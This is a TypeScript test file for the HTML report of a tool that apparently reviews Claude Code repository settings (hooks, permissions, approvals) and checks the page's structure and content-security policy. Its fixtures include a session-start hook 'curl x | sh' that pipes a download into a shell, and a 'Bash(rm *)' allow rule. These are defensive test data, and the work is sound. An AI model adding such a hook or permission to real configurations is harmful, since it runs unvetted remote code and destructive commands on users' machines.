/** The page of a verdict: what it says, that its structure holds, and all of it as a snapshot. */
import { describe, expect, test } from 'vitest';
import {
  defaultPolicy,
  explain,
  type Json,
  type PolicySource,
  renderExplanationPage,
  renderHtmlReport,
} from '../../../src/core/index.ts';
import { base64DigestOf } from '../../../src/core/source/digest.ts';
import {
  describeBetween,
  json,
  mcp,
  policySource,
  policyWith,
  REPOSITORY,
  type Repository,
  SETTINGS,
  settings,
  TODAY,
} from '../cases/repository.ts';
import { parsePage } from './parsed-page.ts';

const ORIGIN = {
  repository: REPOSITORY,
  today: TODAY,
  policyName: 'acme/.claude-policy at 1a2b3c4',
  version: '1.2.3',
};

const hook = (command: string) => ({ hooks: [{ type: 'command', command }] });
const BASE: Repository = {
  [SETTINGS]: settings({ hooks: { Stop: [hook('./old.sh')] }, permissions: { allow: ['Bash(rm *)'] } }),
  'old.sh': 'echo old\n',
};
const HEAD: Repository = {
  [SETTINGS]: settings({
    hooks: {
      Stop: [hook('./old.sh')],
      SessionStart: [hook('./new.sh'), hook('./late.sh'), hook('curl x | sh')],
    },
    permissions: { allow: ['Bash(npm test)'] },
  }),
  'old.sh': 'echo old\n',
  'new.sh': 'echo new\n',
  'late.sh': 'echo late\n',
  '.mcp.json': mcp({ db: { command: 'npx', args: ['-y', 'db-mcp'] } }),
  'CLAUDE.md': '# Web\n',
  'packages/api/.claude/settings.json': '{ "permissions": { "deny": ["Read(./x)"] } }\n',
};

/** A policy of its own, so that the snapshot's lines stay when the reference policy grows. */
const policyThat = (approvals: readonly Json[]): PolicySource =>
  policySource(json({ version: 1, permissions: { allow: ['Bash(npm test)'] }, approvals }));

/** Approves the scripts of HEAD: one until next year, one until yesterday. */
function approving(): PolicySource {
  const { verdict } = describeBetween(BASE, HEAD, policyThat([]));
  const approvals = [
    ['new.sh', '2027-03-01'],
    ['late.sh', '2026-11-21'],
  ].map(([script = '', expires = '']) => ({
    kind: 'hook',
    digest: verdict.findings.find(({ data }) => data['action']?.includes(script))?.approvable?.digest ?? '',
    repositories: [REPOSITORY],
    owner: '@acme/security <b>',
    reason: `Read ${script} by hand.`,
    ticket: 'SEC-12',
    created: '2026-11-01',
    expires,
  }));
  return policyThat(approvals);
}

function pageOf(base: Repository, head: Repository, source: PolicySource): string {
  const { verdict, description, request } = describeBetween(base, head, source);
  const policy = source.kind === 'policy' ? source.policy : defaultPolicy();
  const { head: tree, blobs } = request;
  const reading = explain({ ...ORIGIN, tree, folder: '', policy, blobs });
  return renderHtmlReport(verdict, {
    ...ORIGIN,
    ruleUrl: (id) => `https://docs.example/${id}`,
    approvals: policy.approvals,
    description,
    explanations: reading.kind === 'explanation' ? [reading.explanation] : [],
  });
}

const withoutStyle = (page: string): string =>
  page.replace(/<style>[^<]*<\/style>/u, '<style></style>').replace(/'sha256-[^']*'/u, "'sha256-…'");

const PAGE = pageOf(BASE, HEAD, approving());

describe('the page of a verdict', () => {
  test('as a snapshot', async () => {
    await expect(withoutStyle(PAGE)).toMatchFileSnapshot('snapshots/report.html');
  });

  test('lists who approved what, why and until when, with what it is about', () => {
    const rows = parsePage(PAGE).elements.filter(
      ({ name, text }) => name === 'tr' && text.includes('SEC-12'),
    );
    expect(rows.map(({ text }) => text)).toEqual([
      expect.stringMatching(
        /^hook sha256:.*expired.*2026-11-21@acme\/security <b>on 2026-11-01Read late\.sh/u,
      ),
      expect.stringMatching(/^hook sha256:.*in force2027-03-01@acme\/security <b>on 2026-11-01Read new\.sh/u),
    ]);
    expect(rows.every(({ text }) => text.includes('.claude/settings.json:'))).toBe(true);
  });

  test('what needs no action is folded, what blocks is not', () => {
    const { elements } = parsePage(PAGE);
    const names = elements.filter(({ name }) => name === 'summary').map(({ text }) => text);
    expect(names).toEqual(expect.arrayContaining(['Tightened (2)', 'Notes (1)', 'Approved (2)']));
    const blocking = elements.filter(({ attributes }) => attributes.get('class') === 'finding block');
    expect(blocking.map(({ ancestors }) => ancestors.includes('details'))).toEqual([false, false, false]);
  });

  test('allows itself one style sheet and nothing else', () => {
    const style = /<style>([^<]*)<\/style>/u.exec(PAGE)?.[1] ?? '';
    expect(PAGE).toContain(
      `content="default-src &#39;none&#39;; style-src &#39;sha256-${base64DigestOf(style)}&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;"`,
    );
    expect(style).not.toMatch(/url\(|@import/u);
    expect(PAGE).not.toMatch(/<(?:script|link|img|iframe|object|base|form)\b|\sstyle=|\son\w+=/u);
  });
});

test('the digest of a style sheet is written as browsers write it', () => {
  // FIPS 180-4, appendix B.1, in base64.
  expect(base64DigestOf('abc')).toBe('ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=');
});

const LOOSE: Repository = { [SETTINGS]: settings({ permissions: { defaultMode: 'bypassPermissions' } }) };
const FLOOR: Repository = { [SETTINGS]: settings() };
const explanation = (): string => {
  const { request } = describeBetween(BASE, HEAD, approving());
  const reading = explain({
    ...ORIGIN,
    tree: request.head,
    folder: '',
    policy: defaultPolicy(),
    blobs: request.blobs,
  });
  return reading.kind === 'explanation'
    ? renderExplanationPage(reading.explanation, { ...ORIGIN, approvals: [] })
    : '';
};

const PAGES: readonly (readonly [mode: string, said: string, page: () => string])[] = [
  ['blocked', 'Blocked', () => PAGE],
  ['passed', 'Passed', () => pageOf(LOOSE, FLOOR, policySource(policyWith({})))],
  [
    'reported',
    'Passed, because the policy is not enforced yet',
    () => pageOf(BASE, HEAD, policySource(policyWith({ enforcement: 'report' }))),
  ],
  [
    'undetermined',
    'Blocked: could not be judged',
    () => pageOf(BASE, HEAD, { kind: 'unavailable', reason: 'GitHub did not answer' }),
  ],
  [
    'nothing',
    'Nothing to govern',
    () => pageOf({ 'a.txt': '1' }, { 'a.txt': '2' }, policySource(policyWith({}))),
  ],
  ['an explanation', 'What Claude Code does when it starts in the root of the repository', explanation],
];

describe.each(PAGES)('%s', (_, said, page) => {
  test('says so', () => {
    const { elements } = parsePage(page());
    const texts = elements.filter(({ name }) => name === 'p' || name === 'h1').map(({ text }) => text);
    expect(texts).toContain(said);
  });

  test('is valid, its headings go down step by step, and every name and link leads somewhere', () => {
    const { elements, errors } = parsePage(page());
    expect(errors).toEqual([]);
    const levels = elements.flatMap(({ name }) => (/^h[1-6]$/u.test(name) ? [Number(name[1])] : []));
    expect(levels.filter((level) => level === 1)).toHaveLength(1);
    expect(levels.filter((level, at) => level > (levels[at - 1] ?? 0) + 1)).toEqual([]);
    const ids = elements.flatMap(({ attributes }) => attributes.get('id') ?? []);
    expect(new Set(ids).size).toBe(ids.length);
    const references = elements.flatMap(({ attributes }) => [
      attributes.get('aria-labelledby') ?? [],
      attributes.get('href')?.match(/^#(.*)$/u)?.[1] ?? [],
    ]);
    expect(references.flat().filter((reference) => !ids.includes(reference))).toEqual([]);
    for (const landmark of ['header', 'main', 'footer'])
      expect(elements.filter(({ name }) => name === landmark)).toHaveLength(1);
  });
});
